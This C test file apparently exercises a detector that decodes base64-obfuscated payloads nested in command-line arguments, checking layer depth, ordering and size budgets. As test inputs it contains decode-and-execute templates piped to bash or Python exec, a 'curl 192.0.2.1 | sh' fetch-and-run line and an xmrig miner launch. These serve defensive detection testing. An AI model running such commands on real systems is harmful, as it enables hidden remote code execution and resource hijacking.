// SPDX-License-Identifier: GPL-3.0-or-later
/* Payloads in payloads, several of them, far inside, and the budgets. */
#include "encoded.h"

static void check_layer(const struct event *ev, size_t i, unsigned int depth,
	size_t arg, const char *text)
{
	if (i >= ev->n_layers)
		return;
	CHECK_EQ(ev->layers[i].depth, depth);
	CHECK_EQ(ev->layers[i].arg, arg);
	CHECK_Z(ev->layers[i].chain, "base64");
	CHECK_Z(ev->layers[i].text, text);
}

/* text, encoded n times, each time within the template. */
static void nest(
	struct str *out, const char *template, const char *text, unsigned int n)
{
	struct str last;

	str_init(&last, 1 << 20);
	str_addz(out, text);
	while (n--) {
		str_reset(&last);
		str_addb(&last, str_bytes(out));
		str_reset(out);
		payload_fill(out, template, str_bytes(&last));
	}
	str_fini(&last);
}

static void test_nested(void)
{
	static const char *const templates[] = { "@s", "@n", "@7",
		"echo @s | base64 -d | bash",
		"import base64;exec(base64.b64decode('@s'))",
		"{echo,@s}|{base64,-d}|{bash,-i}" };
	struct str arg, inner;

	str_init(&arg, 1 << 20);
	str_init(&inner, 1 << 20);
	for (size_t t = 0; t < 6; t++)
		for (unsigned int n = 1; n <= 5; n++) {
			struct bytes argv[2] = { BYTES("sh") };
			struct event *ev;

			check_start("nested %u times: %s", n, templates[t]);
			str_reset(&arg);
			nest(&arg, templates[t], "uname -a; whoami; id", n);
			argv[1] = str_bytes(&arg);
			ev = payload_run(argv, 2, &payload_conf);
			CHECK_EQ(ev->n_layers, n);
			for (unsigned int i = 0; i < n; i++) {
				str_reset(&inner);
				nest(&inner, templates[t],
					"uname -a; whoami; id", n - i - 1);
				check_layer(ev, i, i + 1, 1, str_z(&inner));
			}
			CHECK(!ev->is_capped);
			event_destroy(ev);
		}
	check_start("nested by several ways");
	{
		static const char *const ways[] = { "@l", "@v", "@7",
			"echo @s|base64 -d" };
		static const char *const chains[] = { "base64", "base64",
			"base64url", "base64+utf16le" };
		struct bytes a;
		struct event *ev;

		str_reset(&arg);
		str_addz(&arg, "ls /~?\?~?\?>>~~ && id~?!");
		for (int i = 0; i < 4; i++) {
			str_reset(&inner);
			str_addb(&inner, str_bytes(&arg));
			str_reset(&arg);
			payload_fill(&arg, ways[i], str_bytes(&inner));
		}
		a = str_bytes(&arg);
		ev = payload_run(&a, 1, &payload_conf);
		/* The middle two are alone in their text. */
		CHECK_EQ(ev->n_layers, 4);
		for (size_t i = 0; i < ev->n_layers && i < 4; i++)
			CHECK_EQ(ev->layers[i].depth, i + 1);
		if (ev->n_layers == 4) {
			CHECK_Z(ev->layers[0].chain, chains[0]);
			CHECK_Z(ev->layers[3].chain, chains[3]);
			CHECK_Z(ev->layers[3].text,
				"ls /~?\?~?\?>>~~ && id~?!");
		}
		event_destroy(ev);
	}
	str_fini(&arg);
	str_fini(&inner);
}

/* Layers come in the order of a walk: each before those inside it. */
static void test_several(void)
{
	struct str a, b, ab, deep;
	struct bytes argv[4] = { BYTES("sh"), BYTES("-c") };
	struct event *ev;

	check_start("several, some nested");
	str_init(&a, 4096);
	str_init(&b, 4096);
	str_init(&ab, 4096);
	str_init(&deep, 4096);
	payload_fill(&a, "@s", BYTES("echo first payload; id"));
	payload_fill(&b, "@s", BYTES("echo second payload; id"));
	str_addf(&ab, "x=%s; y=%s;", str_z(&a), str_z(&b));
	payload_fill(&deep, "eval @s end", str_bytes(&ab));
	argv[2] = str_bytes(&deep);
	argv[3] = str_bytes(&a);
	ev = payload_run(argv, 4, &payload_conf);
	CHECK_EQ(ev->n_layers, 4);
	check_layer(ev, 0, 1, 2, str_z(&ab));
	check_layer(ev, 1, 2, 2, "echo first payload; id");
	check_layer(ev, 2, 2, 2, "echo second payload; id");
	check_layer(ev, 3, 1, 3, "echo first payload; id");
	CHECK_EQ(ev->decoded_bytes, ab.len + 22 + 23 + 22);
	if (ev->n_layers == 4) {
		CHECK(!memcmp(ev->layers[1].sha256, ev->layers[3].sha256, 32));
		CHECK(memcmp(ev->layers[1].sha256, ev->layers[2].sha256, 32));
	}
	event_destroy(ev);

	check_start("many in one argument");
	str_reset(&deep);
	deep.max = 100000;
	for (int i = 0; i < 100; i++)
		str_addf(&deep, "%s%s", i % 2 ? str_z(&a) : str_z(&b),
			i % 3 ? "; " : "\n| ");
	argv[2] = str_bytes(&deep);
	ev = payload_run(argv, 3, &payload_conf);
	CHECK_EQ(ev->n_layers, 100);
	for (size_t i = 0; i < ev->n_layers; i++)
		check_layer(ev, i, 1, 2,
			i % 2 ? "echo first payload; id"
			      : "echo second payload; id");
	event_destroy(ev);
	str_fini(&a);
	str_fini(&b);
	str_fini(&ab);
	str_fini(&deep);
}

/* What was hidden has been decoded: inside it, less speaks for itself. */
static void test_short_inside(void)
{
	static const char *const argv[] = { "sh", "-c",
		"echo @s | base64 -d | base64 -d | sh", NULL };
	struct event *ev = payload_run_rows(argv, BYTES("bHMgLWFs"));

	check_start("a short one inside");
	CHECK_EQ(ev->n_layers, 2);
	if (ev->n_layers == 2)
		CHECK_Z(ev->layers[1].text, "ls -al");
	event_destroy(ev);
}

/* What came out of bytes that are no layer is as deep as if they weren't
 * there, with their step in its chain where that is known; and what came out of
 * that is inside it. What has nothing to do with them has no part of theirs. */
static void test_senseless_between(void)
{
	static const struct {
		const char *name;
		const char *argv[4];
		struct bytes secret;
		unsigned int depths[2];
		const char *chains[2], *texts[2];
	} rows[] = {
		{ "decoded again",
			{ "sh", "-c",
				"echo @s | base64 -d | "
				"(sh; base64 -di | base64 -d | sh)" },
			BYTES("\xff\x80\x81\xfe"
			      "YVdRN0lIZG9iMkZ0YVRzZ2RXNWhiV1VnTFdFPQ=="),
			{ 1, 2 }, { "base64+base64", "base64" },
			{ "aWQ7IHdob2FtaTsgdW5hbWUgLWE=",
				"id; whoami; uname -a" } },
		{ "run",
			{ "sh", "-c",
				"a=@s; b=a; eval \"$(echo ${!b}|base64 -d)\"" },
			BYTES("\xff\xfe\x81: ;echo "
			      "aWQ7IHdob2FtaTsgdW5hbWUgLWE=|base64 -d|sh"),
			{ 1, 1 }, { "base64", "base64" },
			{ "id; whoami; uname -a",
				"\xff\xfe\x81: ;echo "
				"aWQ7IHdob2FtaTsgdW5hbWUgLWE=|base64 -d|sh" } },
		{ "beside it",
			{ "sh", "-c",
				"echo @s | base64 -d | (sh; echo "
				"aWQ7IHdob2FtaTsgdW5hbWUgLWE= | base64 -d)" },
			BYTES("\xff\x80\x81\xfe"), { 1 }, { "base64" },
			{ "id; whoami; uname -a" } },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct event *ev =
			payload_run_rows(rows[i].argv, rows[i].secret);

		check_start("senseless bytes between: %s", rows[i].name);
		CHECK_EQ(ev->n_layers, rows[i].texts[1] ? 2 : 1);
		for (unsigned int k = 0; k < 2 && k < ev->n_layers; k++) {
			CHECK_EQ(ev->layers[k].depth, rows[i].depths[k]);
			CHECK_Z(ev->layers[k].chain, rows[i].chains[k]);
			CHECK_Z(ev->layers[k].text, rows[i].texts[k]);
		}
		event_destroy(ev);
	}
}

/* An XOR in one command line is none in the next. */
static void test_other_event(void)
{
	static const char *const before[] = { "python3", "-c",
		"exec(bytes(b^0x41 for b in base64.b64decode('@s')))", NULL };
	static const char *const argv[] = { "sh", "-c",
		"echo '{\"cb: \"@s\"}' | jq -r '.c|@@base64d' | sh", NULL };
	struct event *ev;

	check_start("an XOR in the command line before");
	event_destroy(payload_run_rows(before, BYTES("63,;/%a")));
	ev = payload_run_rows(argv, BYTES("screen -dm ./xmrig"));
	if (CHECK_EQ(ev->n_layers, 1))
		check_layer(ev, 0, 1, 2, "screen -dm ./xmrig");
	event_destroy(ev);
}

/* What a shell makes of a text has its place in it as it is written, which may
 * be behind the end of what is left when its strings are joined; of memory that
 * was not used before, a sanitizer sees that. */
static void test_place_in_joined(void)
{
	struct bytes argv[] = { BYTES("php"),
		BYTES("xxd -r<<''\nc^:63//\xff") };
	struct decode *d = decode_new();
	struct event *ev = event_create();

	check_start("a place behind the end of the joined text");
	if (!d || !ev)
		abort();
	ev->argv = argv;
	ev->argc = 2;
	ev->has_execve = true;
	decode_run(d, ev, &payload_conf);
	if (CHECK_EQ(ev->n_layers, 1))
		CHECK(ev->layers[0].spans[0].end <= argv[1].len);
	event_destroy(ev);
	decode_free(d);
}

static void test_sha256(void)
{
	static const char *const argv[] = { "@s", NULL };
	static const unsigned char want[] = { 0xd7, 0xa8, 0xfb, 0xb3 };
	struct event *ev = payload_run_rows(
		argv, BYTES("The quick brown fox jumps over the lazy dog"));

	check_start("sha256");
	if (CHECK_EQ(ev->n_layers, 1))
		CHECK(!memcmp(ev->layers[0].sha256, want, sizeof(want)));
	event_destroy(ev);
}

/* 100 KB of everything around it, and at every place of a small argument. */
static void test_inside(void)
{
	static const char *const fills[] = { "x", " ", "/usr/bin ", "A+b/", "=",
		"-_", "\n", "\xc3\xa4", "\"quoted\" ", "line of text\n" };
	struct str arg, enc;

	str_init(&arg, 1 << 20);
	str_init(&enc, 1000);
	payload_fill(&enc, " @s ", BYTES("curl 192.0.2.1 | sh; uname -a"));
	for (size_t k = 0; k < sizeof(fills) / sizeof(fills[0]); k++) {
		struct bytes a;
		struct event *ev;

		check_start("in 100 KB, row %zu", k);
		str_reset(&arg);
		while (arg.len < 50000)
			str_addz(&arg, fills[k]);
		str_addb(&arg, str_bytes(&enc));
		while (arg.len < 100000)
			str_addz(&arg, fills[k]);
		a = str_bytes(&arg);
		ev = payload_run(&a, 1, &payload_conf);
		if (CHECK_EQ(ev->n_layers, 1))
			CHECK_Z(ev->layers[0].text,
				"curl 192.0.2.1 | sh; uname -a");
		event_destroy(ev);
	}
	check_start("at every place");
	for (size_t at = 0; at < 200; at++) {
		struct bytes a;
		struct event *ev;

		str_reset(&arg);
		for (size_t i = 0; i < 200; i++) {
			if (i == at)
				str_addb(&arg, str_bytes(&enc));
			str_addc(&arg, "some text-with_x/y "[i % 19]);
		}
		a = str_bytes(&arg);
		ev = payload_run(&a, 1, &payload_conf);
		CHECK_EQ(ev->n_layers, 1);
		event_destroy(ev);
	}
	str_fini(&arg);
	str_fini(&enc);
}

/* What one of 3000 bytes of text, encoded n times, gives under a budget. */
/* More than one program is to hand to shells is told, and the first come out.
 */
static void test_many_calls(void)
{
	struct bytes argv[3] = { BYTES("python3"), BYTES("-c") };
	struct str program;
	struct event *ev;

	str_init(&program, 1 << 20);
	for (int n = 64; n <= 65; n++) {
		check_start("%d commands for a shell", n);
		str_reset(&program);
		str_addz(&program, "system('echo di - emanu | rev | sh');");
		for (int i = 1; i < n; i++)
			str_addf(&program, "system('ls %d | wc -l');", i);
		argv[2] = str_bytes(&program);
		ev = payload_run(argv, 3, &payload_conf);
		CHECK_EQ(ev->n_layers, 1);
		if (ev->n_layers)
			CHECK_Z(ev->layers[0].text, "uname - id");
		CHECK_EQ(ev->is_capped, n > 64);
		event_destroy(ev);
	}
	str_fini(&program);
}

static void test_budgets(void)
{
	static const struct {
		const char *name;
		struct decode_conf cf;
		unsigned int n;
		size_t n_layers, decoded;
		bool is_capped, is_cut;
	} rows[] = {
		{ "all fits", { 64, 8000, 8000, 20, 8 }, 2, 2, 7000, 0, 0 },
		{ "layer_max", { 64, 2000, 8000, 20, 8 }, 1, 1, 2000, 1, 1 },
		{ "layer_max to the byte", { 64, 3000, 8000, 20, 8 }, 1, 1,
			3000, 0, 0 },
		{ "event_max", { 64, 8000, 5000, 20, 8 }, 2, 2, 5000, 1, 1 },
		{ "event_max to the byte", { 64, 8000, 7000, 20, 8 }, 2, 2,
			7000, 0, 0 },
		{ "event_max at a layer's end", { 64, 8000, 4000, 20, 8 }, 2, 1,
			4000, 1, 0 },
		{ "depth_max", { 2, 99000, 99000, 20, 8 }, 3, 2, 9333, 1, 0 },
		{ "depth_max 1", { 1, 99000, 99000, 20, 8 }, 2, 1, 4000, 1, 0 },
		{ "depth_max to the layer", { 3, 99000, 99000, 20, 8 }, 3, 3,
			12336, 1, 0 },
	};
	struct str text, arg;

	str_init(&text, 4000);
	str_init(&arg, 1 << 20);
	while (text.len < 3000)
		str_addz(&text, "a line of text.");
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct bytes a;
		struct event *ev;

		check_start("budget: %s", rows[i].name);
		str_reset(&arg);
		nest(&arg, "@s", str_z(&text), rows[i].n);
		a = str_bytes(&arg);
		ev = payload_run(&a, 1, &rows[i].cf);
		CHECK_EQ(ev->n_layers, rows[i].n_layers);
		CHECK_EQ(ev->is_capped, rows[i].is_capped);
		CHECK(ev->decoded_bytes <= rows[i].cf.event_max);
		/* A decoder may leave out the block that does not fit. */
		if (rows[i].n < 3)
			CHECK(ev->decoded_bytes <= rows[i].decoded &&
				ev->decoded_bytes + 768 > rows[i].decoded);
		if (ev->n_layers)
			CHECK_EQ(ev->layers[ev->n_layers - 1].is_cut,
				rows[i].is_cut);
		event_destroy(ev);
	}
	str_fini(&text);
	str_fini(&arg);
}

/* What a shell makes of its text counts, too: all results, up to the last that
 * the budget has room for. */
static void test_budget_of_results(void)
{
	struct bytes argv[] = { BYTES("bash"), BYTES("-c"),
		BYTES("a=$(echo aWQ7aWQ7|base64 -d);eval $a;"
		      "b=$(echo bHM7bHM7|base64 -d);eval $b;"
		      "c=$(echo cHM7cHM7|base64 -d);eval $c") };
	struct decode_conf cf = { 8, 4096, 4096, 8, 4 };
	struct event *ev = payload_run(argv, 3, &cf);
	size_t n = ev->n_layers, first = n ? ev->layers[0].text.len : 0;
	size_t sum = ev->decoded_bytes;

	check_start("budget of results");
	CHECK(n > 2 && !ev->is_capped);
	event_destroy(ev);
	for (cf.event_max = first; cf.event_max < sum; cf.event_max++) {
		ev = payload_run(argv, 3, &cf);
		CHECK(ev->is_capped && ev->n_layers <= n);
		CHECK_EQ(ev->decoded_bytes, cf.event_max);
		event_destroy(ev);
	}
}

/* Wherever a budget cuts a character in two: it says so. */
static void test_cut_character(void)
{
	struct decode_conf cf = { 64, 1000, 8000, 20, 8 };
	struct bytes a;
	struct str text, arg;
	size_t n_good = 0;

	check_start("budget: inside a character");
	str_init(&text, 4000);
	str_init(&arg, 8000);
	for (size_t at = 700; at <= 1010; at++) {
		struct event *ev;

		str_reset(&text);
		str_reset(&arg);
		while (text.len < 2000)
			str_addz(&text, text.len == at ? "\xe2\x82\xac" : "x");
		payload_fill(&arg, "@s", str_bytes(&text));
		a = str_bytes(&arg);
		ev = payload_run(&a, 1, &cf);
		n_good += ev->is_capped && ev->n_layers == 1;
		event_destroy(ev);
	}
	CHECK_EQ(n_good, 311);
	str_fini(&text);
	str_fini(&arg);
}

static void test_counts(void)
{
	struct str arg, one;
	struct bytes a;
	struct event *ev;

	str_init(&arg, 1 << 20);
	str_init(&one, 1000);
	payload_fill(&one, "@s ", BYTES("echo something; ls"));
	for (int i = 0; i < DECODE_LAYERS_MAX; i++)
		str_addb(&arg, str_bytes(&one));
	check_start("as many layers as are kept");
	a = str_bytes(&arg);
	ev = payload_run(&a, 1, &payload_conf);
	CHECK_EQ(ev->n_layers, DECODE_LAYERS_MAX);
	CHECK(!ev->is_capped);
	event_destroy(ev);
	check_start("one more");
	str_addb(&arg, str_bytes(&one));
	a = str_bytes(&arg);
	ev = payload_run(&a, 1, &payload_conf);
	CHECK_EQ(ev->n_layers, DECODE_LAYERS_MAX);
	CHECK(ev->is_capped);
	event_destroy(ev);

	check_start("as deep as Base64 goes");
	str_reset(&arg);
	nest(&arg, "@s", "id; whoami; uname -a", 34);
	a = str_bytes(&arg);
	ev = payload_run(&a, 1, &payload_conf);
	CHECK_EQ(ev->n_layers, 34);
	CHECK(!ev->is_capped);
	event_destroy(ev);
	str_fini(&arg);
	str_fini(&one);
}

/* The shortest candidate of each kind, and one shorter. */
static void test_lengths(void)
{
	static const char *const near[] = { "python3", "-c",
		"exec(base64.b64decode(sys.argv[1]))", "@n", NULL };
	static const char *const alone[] = { "x", "@n", NULL };
	static const struct {
		const char *name;
		const char *const *argv;
		const char *secret;
		size_t n_layers;
	} rows[] = {
		{ "8 characters, context", near, "ls -al", 1 },
		{ "7 characters, context", near, "ls -a", 0 },
		{ "20 characters", alone, "ls -al; id; w;a", 1 },
		{ "19 characters", alone, "ls -al; id; w;", 0 },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		struct event *ev = payload_run_rows(
			rows[i].argv, bytes_of(rows[i].secret));

		check_start("shortest: %s", rows[i].name);
		CHECK_EQ(ev->n_layers, rows[i].n_layers);
		event_destroy(ev);
	}
}

/* Arguments without bytes, and ones whose records never came. */
static void test_lost(void)
{
	struct bytes argv[] = { BYTES("printf"), { NULL, 0 }, BYTES(""),
		BYTES("aWQ7IHVuYW1lIC1hOyB3aG9hbWk="), { NULL, 0 },
		BYTES("base64") };
	struct event *ev = payload_run(argv, 6, &payload_conf);

	check_start("lost arguments");
	if (CHECK_EQ(ev->n_layers, 1))
		check_layer(ev, 0, 1, 3, "id; uname -a; whoami");
	event_destroy(ev);
}

/* Programs that ask for more steps, or more memory, than they are given. */
static void test_programs(void)
{
	struct bytes argv[] = { BYTES("python3"), BYTES("-c"),
		BYTES("x=''\nfor i in range(10**9):\n  x+='a'\nexec(x)") };
	struct str text;
	struct event *ev;

	check_start("program: steps");
	ev = payload_run(argv, 3, &payload_conf);
	CHECK(ev->is_capped);
	event_destroy(ev);
	check_start("program: memory");
	str_init(&text, 1 << 20);
	str_addz(&text, "a='");
	while (text.len < 2000)
		str_addc(&text, 'b');
	str_addz(&text, "';print(a");
	for (int i = 0; i < 100; i++)
		str_addz(&text, "+a");
	str_addz(&text, ")");
	argv[2] = str_bytes(&text);
	ev = payload_run(argv, 3, &payload_conf);
	CHECK(ev->is_capped);
	event_destroy(ev);
	check_start("program: neither");
	argv[2] = BYTES("a='b';exec(a+a)");
	ev = payload_run(argv, 3, &payload_conf);
	CHECK(!ev->is_capped);
	event_destroy(ev);
	str_fini(&text);
}

int main(void)
{
	check.module = "decode deep";
	test_nested();
	test_several();
	test_short_inside();
	test_senseless_between();
	test_other_event();
	test_place_in_joined();
	test_sha256();
	test_inside();
	test_many_calls();
	test_budgets();
	test_budget_of_results();
	test_cut_character();
	test_counts();
	test_lengths();
	test_lost();
	test_programs();
	return check_end();
}
